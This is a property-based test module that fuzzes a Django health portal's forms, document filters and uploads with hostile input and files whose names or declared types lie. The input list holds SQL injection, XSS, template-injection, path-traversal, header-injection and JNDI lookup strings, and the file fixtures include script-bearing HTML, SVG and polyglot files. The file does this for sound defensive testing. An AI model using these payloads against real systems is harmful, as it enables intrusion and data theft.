"""Fuzzing the forms and uploads (issue #7, point 3): every POST handler that takes what people
type, and the document list's filters, fed hostile text, oversized values, broken encodings and
files that lie about their type.

For each form: never a 500; a refusal is the form shown again (400, or 200 where the view
answers so) and creates nothing; what is created comes only from input that is valid (an
oracle written here, from the forms' documented rules). Uploads are judged by content alone:
a file whose name or declared type lies is refused, or stored and served with the type its
first bytes prove, as a download that browsers must not sniff.
"""

import re
import time
import uuid
from datetime import date, datetime, timedelta

import pytest
import time_machine
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.validators import validate_email
from django.utils import timezone
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from accounts.models import Person
from accounts.rules import InvalidPesel, build_pesel, parse_pesel
from conftest import hpv9, make_clinic
from guardianship.models import AccessGrant
from guardianship.policy import surname_matches
from records.models import Document
from support import services
from support.forms_login_help import token_issue
from support.models import Attachment, StaffAction, Ticket, TicketMessage
from support.tests.conftest import open_ticket
from support.tests.test_attachments import EXE, JPEG, PDF, PNG
from vaccinations.models import Immunization

pytestmark = pytest.mark.django_db

FORM_FUZZ = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# --- hostile input -----------------------------------------------------------------------------

HOSTILE = [
    "", " ", "\t\n", "\x00", "a\x00b", "'; DROP TABLE accounts_person; --", "' OR '1'='1",
    "<script>alert(1)</script>", '"><svg onload=alert(1)>', "{{ settings.SECRET_KEY }}", "{% debug %}",
    "\u202egpj.exe", "\u200f\u2066Kowalska\u2069", "Zażółć gęślą jaźń", "👨‍👩‍👧", "e\u0301" * 50,
    "../../../etc/passwd", "%s%n%x", "${jndi:ldap://example.test/a}", "\r\nSet-Cookie: a=b",
    "x" * 5_001, "ż" * 2_001, "9" * 11, "0" * 11, "12345678901", "8503141234",
    "８５０３１４１２３４５",  # fullwidth digits: str.isdigit() says yes
    "٨٥٠٣١٤١٢٣٤٥",  # Arabic-Indic digits
    "85031412345\u200b", "8503 1412 345", "-1", "1e9999", "NaN", "null", "true", "[]", "{}",
]  # fmt: skip
text = st.sampled_from(HOSTILE) | st.text(max_size=40) | st.text(min_size=1_000, max_size=6_000)


def html(response) -> str:
    return response.content.decode(errors="replace")


def without_nul(value: str) -> bool:
    return "\x00" not in value


def text_ok(value: str, *, max_length: int, min_length: int = 1) -> bool:
    """Django's CharField: stripped, NUL refused, lengths of the stripped value."""
    return without_nul(value) and min_length <= len(value.strip()) <= max_length


def parsed_pesel(value: str) -> str | None:
    try:
        return parse_pesel(value, today=timezone.localdate()).pesel
    except InvalidPesel:
        return None


def with_totp(user):
    TOTP.activate(user, generate_totp_secret())
    return user


@pytest.fixture
def desk_user(support_user):
    """`support_user` with TOTP, as the desk's MFA gate requires (support/tests/conftest.py)."""
    return with_totp(support_user)


# --- files -------------------------------------------------------------------------------------

ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20 + b"evil.exe"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
PDF_INSIDE_HTML = b"<html><body>%PDF-1.4 <script>alert(1)</script></body></html>"
HTML_AFTER_PDF_HEADER = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
SIGNATURES = {
    b"%PDF-": "application/pdf",
    b"\xff\xd8\xff": "image/jpeg",
    b"\x89PNG\r\n\x1a\n": "image/png",
}
EXTENSIONS = {"application/pdf": "pdf", "image/jpeg": "jpg", "image/png": "png"}


def sniffed(data: bytes) -> str | None:
    """The type a file's first bytes prove (the contract of support/attachments.py)."""
    if not data or len(data) > django_settings.SUPPORT_ATTACHMENT_MAX_BYTES:
        return None
    return next((kind for magic, kind in SIGNATURES.items() if data.startswith(magic)), None)


# Any name, also one Django's multipart parser cannot read (no printable character, or a path
# ending in a separator): the portal keeps that file as "attachment" (ikp/uploads.py), so a name
# never decides whether a file is kept. ("." and ".." are refused by the test client itself:
# support/tests/test_unreadable_file_names.py sends them by hand.)
UNREADABLE_NAMES = ["\x01\x02", "\u200b", "\u200f\u2066\u2069", "\x7f\x1b", "\x00", "   ", "C:\\skany\\"]  # fmt: skip
file_names = st.sampled_from([
    "skan.pdf", "zdjecie.png", "wynik.jpg", "faktura.PDF", "invoice.pdf.exe", "../../etc/passwd.pdf",
    "C:\\Windows\\system32\\cmd.png", "\u202efdp.exe", "<script>.png", "a" * 300 + ".jpg", "noextension",
    "spaces  and\ttabs.pdf", "con.png", ".htaccess", "ZAŻÓŁĆ.jpeg", *UNREADABLE_NAMES,
]) | st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="/\\"), min_size=1, max_size=40
).map(lambda name: name + ".pdf") | st.text(
    # Control and format characters only (no CR or LF: the test client writes the name into
    # a header line as it is).
    alphabet=st.characters(whitelist_categories=("Cc", "Cf"), blacklist_characters="\r\n"), min_size=1, max_size=8
)  # fmt: skip
file_contents = (
    st.sampled_from([EXE, ZIP, HTML, SVG, PDF_INSIDE_HTML, HTML_AFTER_PDF_HEADER, GIF, PNG, JPEG, PDF,
                     b"\xef\xbb\xbf%PDF-1.4", b" %PDF-1.4", b"\x89PNG", b"\xff\xd8", b""])
    | st.binary(max_size=64)
    | st.builds(lambda magic, rest: magic + rest, st.sampled_from(list(SIGNATURES)), st.binary(max_size=64))
)  # fmt: skip
uploads = st.lists(st.tuples(file_names, file_contents), max_size=6)


def as_files(pairs) -> list[SimpleUploadedFile]:
    declared = [
        "application/pdf",
        "image/png",
        "image/jpeg",
        "text/html",
        "application/octet-stream",
    ]
    return [SimpleUploadedFile(name, data, content_type=declared[n % len(declared)])
            for n, (name, data) in enumerate(pairs)]  # fmt: skip


def files_ok(pairs) -> bool:
    return len(pairs) <= django_settings.SUPPORT_ATTACHMENTS_PER_MESSAGE and all(
        sniffed(data) for _, data in pairs
    )


def assert_stored_by_content(attachments, pairs) -> None:
    """Each stored file has the type its content proves and a name with that type's extension,
    without a path or control characters."""
    stored = sorted((a.content_type, a.name, bytes(a.content)) for a in attachments)
    assert [(t, c) for t, _, c in stored] == sorted((sniffed(data), data) for _, data in pairs)
    for content_type, name, _ in stored:
        assert name.endswith("." + EXTENSIONS[content_type])
        assert not any(ch in name for ch in "/\\\x00\r\n\u202e<>")


# --- perturbations ------------------------------------------------------------------------------


def perturbed(fields: dict, values=None):
    """None (the valid form as it is) or (field, hostile value): one field replaced."""
    return st.none() | st.tuples(st.sampled_from(sorted(fields)), values or text)


def applied(base: dict, change) -> dict:
    return base if change is None else {**base, change[0]: change[1]}


def checked(value: str) -> bool:
    """A checkbox as Django reads it: absent, "" and "false" are unticked; anything else ticks."""
    return value != "" and value.lower() != "false"


CHECKBOX = st.sampled_from(["on", "", "false", "FALSE", "0", "x", "\x00"])

# --- the guardian list's "Add a guardian" ---------------------------------------------------------


@FORM_FUZZ
@given(
    change=perturbed({"surname", "pesel"})
    | st.tuples(st.just("legal_guardian_confirmed"), CHECKBOX)
)
@example(change=("pesel", "８５０３１４１２３４５"))
def test_the_add_guardian_form_refuses_bad_input_without_creating_a_grant(
    client, parent, other_parent, insured_child, change
):
    base = {"surname": other_parent.person.surname, "pesel": other_parent.person.pesel,
            "legal_guardian_confirmed": "on"}  # fmt: skip
    data = applied(base, change)
    client.force_login(parent)

    response = client.post(f"/uprawnienia/dzieci/{insured_child.public_id}/opiekunowie/", data)

    event(f"status {response.status_code}")
    assert response.status_code in (400, 302)
    surname, pesel = data["surname"], "".join(data["pesel"].split())
    valid = (
        without_nul(data["surname"] + data["pesel"]) and 1 <= len(surname.strip()) <= 100
        and len(data["pesel"].strip()) <= 30 and pesel == other_parent.person.pesel
        and surname_matches(" ".join(surname.split()), other_parent.person)
        and checked(data["legal_guardian_confirmed"])
    )  # fmt: skip
    grants = AccessGrant.objects.filter(subject=insured_child)
    assert response.status_code == (302 if valid else 400)
    if valid:
        assert [g.grantee_pesel for g in grants] == [other_parent.person.pesel]
        grants.delete()  # the next example may add the guardian again
    else:
        assert not grants.exists()
        page = html(response)
        assert "govuk-error-summary" in page
        if (typed := parsed_pesel(pesel)) is not None:
            assert typed not in page  # a typed PESEL is never sent back


# --- the child-access help ----------------------------------------------------------------------

CHILD_PESEL = build_pesel(date(2016, 4, 1), sex="F", serial=321)  # nobody the portal knows


@FORM_FUZZ
@given(change=perturbed({"pesel"}))
@example(change=None)
@example(change=("pesel", "８５０３１４１２３４５"))
def test_the_child_access_help_answers_any_pesel_without_a_500(client, parent, change):
    data = applied({"pesel": CHILD_PESEL}, change)
    client.force_login(parent)
    tickets = Ticket.objects.count()

    response = client.post("/pomoc/dostep-do-konta-dziecka/", data)

    valid = without_nul(data["pesel"]) and parsed_pesel(data["pesel"].strip().replace(" ", "")) not in (
        None, parent.person.pesel)  # fmt: skip
    event(f"valid {valid}")
    assert response.status_code == (200 if valid else 400)
    assert Ticket.objects.count() == tickets
    assert ("govuk-error-summary" in html(response)) == (not valid)


@FORM_FUZZ
@given(change=perturbed({"pesel", "description"}))
def test_the_child_access_ticket_is_opened_only_from_valid_input(client, parent, change):
    data = applied(
        {"pesel": CHILD_PESEL, "description": "Od tygodnia nie widzę konta córki."}, change
    )
    client.force_login(parent)
    tickets = set(Ticket.objects.values_list("pk", flat=True))

    response = client.post("/pomoc/dostep-do-konta-dziecka/zgloszenie/", data)

    valid = (
        without_nul(data["pesel"])
        and parsed_pesel(data["pesel"].strip().replace(" ", "")) not in (None, parent.person.pesel)
        and text_ok(data["description"], max_length=2000, min_length=0)
    )  # fmt: skip
    event(f"valid {valid}")
    assert response.status_code == (200 if valid else 400)
    new = list(Ticket.objects.exclude(pk__in=tickets))
    assert len(new) == (1 if valid else 0)
    if valid:
        assert data["description"].strip() in new[0].description or not data["description"].strip()


# --- ikp-pomoc: a new request and a reply ---------------------------------------------------------


def category_choices() -> list[str]:
    return [c for c in Ticket.Category.values if c != Ticket.Category.NOT_MY_CHILD]


new_request_changes = (
    st.none()
    | st.tuples(st.just("category"), st.sampled_from(Ticket.Category.values) | text)
    | st.tuples(st.just("person"), st.integers(min_value=0, max_value=5))
    | st.tuples(st.just("description"), text)
    | st.tuples(st.just("attachments"), uploads)
)


@FORM_FUZZ
@given(change=new_request_changes)
@example(change=("attachments", [("skan.pdf", PNG), ("a.png", PDF), ("c.jpg", JPEG)]))
@example(change=("attachments", [("skan.pdf", EXE)]))
@example(change=("category", Ticket.Category.NOT_MY_CHILD))
@example(change=("attachments", [("\u200b", PDF), ("\x01\x02", PNG)]))
@example(change=("attachments", [("skan.pdf", PDF), ("\x7f", EXE)]))
def test_a_new_request_is_opened_only_from_valid_input(client, parent, insured_child, change):
    people = [
        "",
        str(parent.person.public_id),
        str(insured_child.public_id),
        str(uuid.uuid4()),
        "<x>",
        "\x00",
    ]
    base = {"category": "login", "person": 0, "description": "Nie mogę się zalogować.",
            "attachments": [("skan.pdf", PDF)]}  # fmt: skip
    data = applied(base, change)
    client.force_login(parent)
    tickets, attachments = Ticket.objects.count(), Attachment.objects.count()

    response = client.post("/pomoc/zgloszenia/nowe/", {
        **data, "person": people[data["person"]], "attachments": as_files(data["attachments"]),
    })  # fmt: skip

    valid = (
        data["category"] in category_choices() and data["person"] < 3
        and text_ok(data["description"], max_length=5000) and files_ok(data["attachments"])
    )  # fmt: skip
    event(f"valid {valid}")
    if not valid:
        assert response.status_code == 400
        assert (Ticket.objects.count(), Attachment.objects.count()) == (tickets, attachments)
        assert "govuk-error-summary" in html(response)
        return
    assert response.status_code == 302
    ticket = Ticket.objects.latest("pk")
    assert response.url == f"/pomoc/zgloszenia/{ticket.public_id}/"
    assert (ticket.category, ticket.description, ticket.requester) == (
        data["category"], data["description"].strip(), parent)  # fmt: skip
    assert_stored_by_content(ticket.attachments.all(), data["attachments"])


@FORM_FUZZ
@given(change=perturbed({"body"}) | st.tuples(st.just("attachments"), uploads))
@example(change=("attachments", [("\u2066\u2069", JPEG)]))
def test_a_reply_is_added_only_from_valid_input(client, parent, change):
    ticket = open_ticket(parent, description="Pierwsza wiadomość.")
    data = applied(
        {"body": "Dziękuję, przesyłam skan.", "attachments": [("skan.png", PNG)]}, change
    )
    client.force_login(parent)
    messages = TicketMessage.objects.filter(ticket=ticket).count()

    response = client.post(
        f"/pomoc/zgloszenia/{ticket.public_id}/odpowiedz/",
        {**data, "attachments": as_files(data["attachments"])},
    )

    valid = text_ok(data["body"], max_length=5000) and files_ok(data["attachments"])
    event(f"valid {valid}")
    assert response.status_code == (302 if valid else 400)
    added = TicketMessage.objects.filter(ticket=ticket, kind=TicketMessage.Kind.MESSAGE).count()
    if valid:
        assert added == 1
        assert_stored_by_content(ticket.attachments.all(), data["attachments"])
    else:
        assert TicketMessage.objects.filter(ticket=ticket).count() == messages
        assert added == 0 and not ticket.attachments.exists()


# --- login help (anyone) ------------------------------------------------------------------------

_sender = iter(range(1, 10**6))
_ELEVEN_DIGITS = re.compile(r"(?<!\d)\d{11}(?!\d)")


def has_pesel(value: str) -> bool:
    return any(parsed_pesel(candidate) for candidate in _ELEVEN_DIGITS.findall(value))


def _email_ok(value: str) -> bool:
    try:
        validate_email(value.strip())
    except ValidationError:
        return False
    return without_nul(value) and len(value.strip()) <= 254


@FORM_FUZZ
@given(
    change=perturbed({"name", "email", "when", "description"})
    | st.tuples(st.just("email"), st.emails())
    | st.tuples(
        st.just("method"), st.sampled_from(["bank", "password", "", "hacker", "BANK"]) | text
    )
    | st.tuples(st.just("website"), st.sampled_from([" ", "http://spam.example", "x"]) | text)
    | st.tuples(st.just("form_issued"), st.sampled_from(["now", "", "garbage", "old"]) | text),
)
@example(change=None)
@example(
    change=(
        "description",
        f"Mój PESEL to {build_pesel(date(1985, 3, 14), sex='F', serial=123)}, pomocy",
    )
)
@example(change=("form_issued", "old"))
def test_the_login_help_form_opens_a_ticket_only_from_valid_input(client, change):
    n = next(_sender)
    base = {"name": "Jan Testowy", "email": f"jan{n}@example.test", "method": "bank",
            "when": "dziś około 9:00", "description": "Bank pokazuje błąd po wybraniu mojeID.",
            "website": "", "form_issued": "fresh"}  # fmt: skip
    data = applied(base, change)
    with time_machine.travel(timezone.now() - timedelta(hours=3), tick=False):
        old = token_issue()  # a form left open for three hours
    tokens = {
        "fresh": token_issue(
            now=time.time() - 10
        ),  # shown ten seconds ago, as a person fills it in
        "now": token_issue(),
        "old": old,
    }
    tickets = Ticket.objects.count()

    response = client.post(
        "/pomoc/logowanie/",
        {**data, "form_issued": tokens.get(data["form_issued"], data["form_issued"])},
        REMOTE_ADDR=f"10.9.{n // 250}.{n % 250}",  # one request per address: no rate limit here
    )

    created = Ticket.objects.count() - tickets
    event(f"status {response.status_code}, {created} ticket")
    if data["website"].strip():
        assert (response.status_code, created) == (200, 0)  # the bot is thanked, nothing is opened
        return
    valid = (
        data["form_issued"] == "fresh" and text_ok(data["name"], max_length=200)
        and _email_ok(data["email"]) and data["method"] in ("bank", "password", "other")
        and text_ok(data["when"], max_length=100, min_length=0) and not has_pesel(data["when"])
        and text_ok(data["description"], max_length=2000) and not has_pesel(data["description"])
    )  # fmt: skip
    assert (response.status_code, created) == ((200, 1) if valid else (400, 0))
    if valid:
        ticket = Ticket.objects.latest("pk")
        assert (ticket.category, ticket.description) == (
            Ticket.Category.LOGIN,
            data["description"].strip(),
        )
    else:
        assert "govuk-error-summary" in html(response)


# --- the desk: search and grant ----------------------------------------------------------------


@FORM_FUZZ
@given(typed=text, pesel_pick=st.integers(min_value=0, max_value=3), number=text)
def test_the_desk_search_refuses_bad_input_and_logs_only_real_searches(
    client, desk_user, parent, typed, pesel_pick, number
):
    unknown = build_pesel(date(1960, 1, 1), sex="M", serial=999)
    pesel = [typed, parent.person.pesel, f" {parent.person.pesel} ", unknown][pesel_pick]
    client.force_login(desk_user)
    actions = StaffAction.objects.count()

    by_number = client.get("/obsluga/zgloszenia/szukaj/", {"numer": number})
    by_pesel = client.post("/obsluga/zgloszenia/szukaj/", {"pesel": pesel})

    assert by_number.status_code == 302
    valid = (
        without_nul(pesel) and len(pesel.strip()) <= 11 and parsed_pesel(pesel.strip()) is not None
    )
    event(f"valid {valid}")
    assert by_pesel.status_code == (200 if valid else 400)
    found = valid and Person.objects.filter(pesel=pesel.strip()).exists()
    assert StaffAction.objects.count() - actions == (1 if found else 0)
    if not valid:
        assert "govuk-error-summary" in html(by_pesel)


@FORM_FUZZ
@given(
    change=perturbed({"grantee_surname", "grantee_pesel", "justification"})
    | st.tuples(st.just("documents_checked"), CHECKBOX)
)
def test_the_desk_grant_form_grants_only_from_valid_input(
    client, desk_user, other_parent, insured_child, change
):
    ticket = open_ticket(other_parent, person=insured_child, category=Ticket.Category.CHILD_ACCESS)
    services.ticket_assign(ticket=ticket, by=desk_user, to=desk_user)
    base = {"grantee_surname": other_parent.person.surname, "grantee_pesel": other_parent.person.pesel,
            "documents_checked": "on", "justification": "Rodzic przesłał dokumenty, sprawdzone w zgłoszeniu."}  # fmt: skip
    data = applied(base, change)
    client.force_login(desk_user)
    granted = StaffAction.objects.filter(kind=StaffAction.Kind.GRANT_GUARDIAN)
    actions = granted.count()

    response = client.post(f"/obsluga/zgloszenia/{ticket.public_id}/opiekun/", data)

    valid = (
        data["grantee_pesel"].strip() == other_parent.person.pesel and without_nul(data["grantee_pesel"])
        and text_ok(data["grantee_surname"], max_length=100)
        and surname_matches(data["grantee_surname"], other_parent.person)
        and checked(data["documents_checked"])
        and text_ok(data["justification"], max_length=1000, min_length=10)
    )  # fmt: skip
    event(f"valid {valid}")
    grants = AccessGrant.objects.filter(subject=insured_child)
    assert response.status_code == (302 if valid else 400)
    if valid:
        assert [g.grantee_pesel for g in grants] == [other_parent.person.pesel]
        assert granted.count() == actions + 1
        grants.delete()  # the next example may grant again
    else:
        assert not grants.exists() and granted.count() == actions
        assert "govuk-error-summary" in html(response)


# --- the clinic's dose form ----------------------------------------------------------------------


@pytest.fixture
def clinic_desk(clinic_user):
    return make_clinic(name="Przychodnia Pod Lipami", city="Kraków", staff=[with_totp(clinic_user)])


DATES = st.dates(min_value=date(1, 1, 1)).map(str) | st.sampled_from(
    ["05.03.2024", "5.3.2024", "2024-02-30", "31.12.9999", "0000-00-00", "today", " 2024-03-05 "]
)


@FORM_FUZZ
@given(
    change=perturbed({"pesel", "surname", "vaccine", "administered_on"})
    | st.tuples(st.just("administered_on"), DATES)
    | st.tuples(st.just("surname"), st.sampled_from([" kowalska ", "KOWALSKA", "Kowalski"]))
    | st.tuples(st.just("vaccine"), st.sampled_from(["0", "-1", "99999999999999999999", "1.0"]))
    | st.tuples(st.just("close_visit"), CHECKBOX)
)
def test_the_dose_form_records_only_valid_input(client, clinic_user, clinic_desk, child, change):
    base = {"pesel": f" {child.pesel[:6]} {child.pesel[6:]} ", "surname": child.surname,
            "vaccine": str(hpv9().pk), "administered_on": str(timezone.localdate() - timedelta(days=3)),
            "close_visit": "on"}  # fmt: skip
    data = applied(base, change)
    client.force_login(clinic_user)

    response = client.post(f"/obsluga/przychodnia/{clinic_desk.public_id}/szczepienie/", data)

    day = _day(data["administered_on"])
    valid = (
        without_nul(data["pesel"] + data["surname"]) and "".join(data["pesel"].split()) == child.pesel
        and len(data["pesel"].strip()) <= 30 and len(data["surname"].strip()) <= 100
        and surname_matches(" ".join(data["surname"].split()), child)
        and data["vaccine"].strip() == str(hpv9().pk)
        and day is not None and child.birth_date <= day <= timezone.localdate()
    )  # fmt: skip
    event(f"valid {valid}")
    doses = Immunization.objects.filter(person=child)
    assert response.status_code == (302 if valid else 400)
    if valid:
        dose = doses.get()
        assert (dose.administered_on, dose.visit_status) == (
            day, "completed" if checked(data["close_visit"]) else "open")  # fmt: skip
        doses.delete()  # the next example may record it again
    else:
        assert not doses.exists()
        assert "govuk-error-summary" in html(response)


def _day(value: str) -> date | None:
    for fmt in ("%Y-%m-%d", "%d.%m.%Y"):
        try:
            return datetime.strptime(value.strip(), fmt).date()
        except ValueError:
            continue
    return None


# --- the document list's filters ----------------------------------------------------------------


FACILITIES = ["Szpital Miejski", "<b>Lab</b> & Co", "Przychodnia \u202eZ"]


@pytest.fixture
def documents(parent):
    for n, facility in enumerate(FACILITIES):
        Document.objects.create(
            document_id=f"fuzz-doc-{n}", person=parent.person, type=Document.Type.LAB_RESULT,
            title=f"Wynik {n}", facility_name=facility, author_name="lek. A", body="Wynik w normie.",
            issued_at=timezone.make_aware(datetime(2024, 3, n + 1, 9)),
        )  # fmt: skip
    return parent


def _filter_day(value: str) -> date | None | bool:
    """None when empty, the day when valid, False when the form must refuse it."""
    if not value.strip():
        return None
    for fmt in ("%d.%m.%Y", "%Y-%m-%d"):
        try:
            day = datetime.strptime(value.strip(), fmt).date()
        except ValueError:
            continue
        return day if 1900 <= day.year <= 2099 else False
    return False


FILTER_VALUES = [
    "lab_result", "discharge_summary", *FACILITIES, "05.03.2024", "2024-03-01", "31.12.9999",
    "01.01.0001", "29.02.2023", "2099-12-31", "0", "-1", "2", "last", "99999999999999999999999",
    "1e9", "NaN",
]  # fmt: skip
FILTERS = ["typ", "od", "do", "placowka", "strona"]


@FORM_FUZZ
@given(
    changes=st.lists(
        st.tuples(st.sampled_from(FILTERS), text | st.sampled_from(FILTER_VALUES)), max_size=3
    )
)
def test_the_document_filters_never_fail(client, documents, changes):
    data = dict.fromkeys(FILTERS, "") | dict(changes)
    client.force_login(documents)

    response = client.get("/historia-leczenia/dokumenty/", data)

    start, end = _filter_day(data["od"]), _filter_day(data["do"])
    valid = (
        data["typ"] in ("", *Document.Type.values) and data["placowka"] in ("", *FACILITIES)
        and start is not False and end is not False and not (start and end and start > end)
    )  # fmt: skip
    event(f"valid {valid}")
    assert response.status_code == (200 if valid else 400)
    page = response.context["page"]
    if valid:
        assert all(document.person_id == documents.person_id for document in page.object_list)
        assert 1 <= page.number <= page.paginator.num_pages
    else:
        assert page is None and "govuk-error-summary" in html(response)


# --- broken request bodies ---------------------------------------------------------------------


def _form_urls(insured_child, ticket) -> list[str]:
    return [
        f"/uprawnienia/dzieci/{insured_child.public_id}/opiekunowie/",
        "/pomoc/dostep-do-konta-dziecka/",
        "/pomoc/dostep-do-konta-dziecka/zgloszenie/",
        "/pomoc/zgloszenia/nowe/",
        f"/pomoc/zgloszenia/{ticket.public_id}/odpowiedz/",
        "/pomoc/logowanie/",
    ]


@settings(FORM_FUZZ, max_examples=15)  # six requests each
@given(
    body=st.binary(max_size=300)
    | st.sampled_from(
        [b"pesel=%ff%fe", b"description=%00%00", b"a=" + b"%" * 50, b"=&=&==", b"pesel[]=1&pesel=2"]
    ),
    kind=st.sampled_from(["urlencoded", "multipart", "broken multipart", "json"]),
)
def test_broken_request_bodies_never_cause_a_500(client, parent, insured_child, body, kind):
    ticket = Ticket.objects.filter(requester=parent).first() or open_ticket(parent)
    content_types = {
        "urlencoded": "application/x-www-form-urlencoded",
        "multipart": "multipart/form-data; boundary=BoUnDaRy",
        "broken multipart": "multipart/form-data",  # no boundary
        "json": "application/json",
    }
    data = body if kind != "multipart" else b"--BoUnDaRy\r\n" + body + b"\r\n--BoUnDaRy--\r\n"
    client.force_login(parent)
    tickets = Ticket.objects.count()

    for url in _form_urls(insured_child, ticket):
        response = client.post(url, data=data, content_type=content_types[kind])
        assert response.status_code < 500, (url, response.status_code)
    assert Ticket.objects.count() == tickets


# --- uploads with lying extensions --------------------------------------------------------------

LYING_FILES = [
    # (name, content, declared type, the type it must be stored as, or None for refused)
    ("program.pdf", EXE, "application/pdf", None),
    ("archiwum.png", ZIP, "image/png", None),
    ("strona.jpg", HTML, "image/jpeg", None),
    ("rysunek.png", SVG, "image/png", None),
    ("obraz.svg", SVG, "image/svg+xml", None),
    ("animacja.png", GIF, "image/png", None),
    ("dokument.pdf", PDF_INSIDE_HTML, "application/pdf", None),
    ("bom.pdf", b"\xef\xbb\xbf" + PDF, "application/pdf", None),
    ("pusty.pdf", b"", "application/pdf", None),
    ("skan.pdf", PNG, "application/pdf", "image/png"),
    ("zdjecie.png", JPEG, "image/png", "image/jpeg"),
    ("wynik.jpg", PDF, "image/jpeg", "application/pdf"),
    ("strona.html", HTML_AFTER_PDF_HEADER, "text/html", "application/pdf"),
    ("skan.png.exe", PNG, "application/x-msdownload", "image/png"),
]


@pytest.mark.parametrize(
    ("name", "data", "declared", "stored_as"), LYING_FILES, ids=[f[0] for f in LYING_FILES]
)
def test_an_upload_is_judged_by_its_content_and_served_as_what_it_is(
    client, parent, desk_user, name, data, declared, stored_as
):
    client.force_login(parent)
    tickets = Ticket.objects.count()

    response = client.post("/pomoc/zgloszenia/nowe/", {
        "category": "other", "person": "", "description": "Załączam plik.",
        "attachments": [SimpleUploadedFile(name, data, content_type=declared)],
    })  # fmt: skip

    if stored_as is None:
        assert response.status_code == 400 and Ticket.objects.count() == tickets
        assert not Attachment.objects.exists()
        return
    assert response.status_code == 302
    item = Attachment.objects.get()
    assert (item.content_type, bytes(item.content)) == (stored_as, data)
    assert item.name.endswith("." + EXTENSIONS[stored_as])
    served = client.get(f"/pomoc/zgloszenia/{item.ticket.public_id}/zalaczniki/{item.public_id}/")
    _assert_served_as(served, stored_as, data)
    services.ticket_assign(ticket=item.ticket, by=desk_user, to=desk_user)
    client.force_login(desk_user)
    _assert_served_as(
        client.get(f"/obsluga/zgloszenia/{item.ticket.public_id}/zalaczniki/{item.public_id}/"),
        stored_as,
        data,
    )


def _assert_served_as(response, content_type: str, data: bytes) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert disposition.rstrip('"').endswith("." + EXTENSIONS[content_type])
    assert response.content == data


def test_an_upload_over_the_size_limit_is_refused(client, parent):
    limit = django_settings.SUPPORT_ATTACHMENT_MAX_BYTES
    client.force_login(parent)

    response = client.post("/pomoc/zgloszenia/nowe/", {
        "category": "other", "person": "", "description": "Duży plik.",
        "attachments": [SimpleUploadedFile("duzy.png", PNG + b"\x00" * (limit + 1 - len(PNG)), content_type="image/png")],
    })  # fmt: skip

    assert response.status_code == 400
    assert not Ticket.objects.exists() and not Attachment.objects.exists()


@FORM_FUZZ
@given(change=perturbed({"body"}) | st.tuples(st.just("attachments"), uploads))
@example(change=("attachments", [("C:\\skany\\", PDF)]))
def test_a_desk_reply_keeps_only_files_proven_by_content(client, desk_user, parent, change):
    ticket = open_ticket(parent, description="Proszę o pomoc.")
    services.ticket_assign(ticket=ticket, by=desk_user, to=desk_user)
    data = applied(
        {"body": "Proszę przesłać skan dokumentu.", "attachments": [("instrukcja.pdf", PDF)]},
        change,
    )
    client.force_login(desk_user)
    entries = TicketMessage.objects.filter(ticket=ticket).count()

    response = client.post(
        f"/obsluga/zgloszenia/{ticket.public_id}/odpowiedz/",
        {**data, "attachments": as_files(data["attachments"])},
    )

    valid = text_ok(data["body"], max_length=5000) and files_ok(data["attachments"])
    event(f"valid {valid}")
    assert response.status_code == (302 if valid else 400)
    replies = TicketMessage.objects.filter(ticket=ticket, kind=TicketMessage.Kind.REPLY)
    if valid:
        assert [r.body for r in replies] == [data["body"].strip()]
        assert_stored_by_content(ticket.attachments.all(), data["attachments"])
    else:
        assert TicketMessage.objects.filter(ticket=ticket).count() == entries
        assert not replies.exists() and not ticket.attachments.exists()
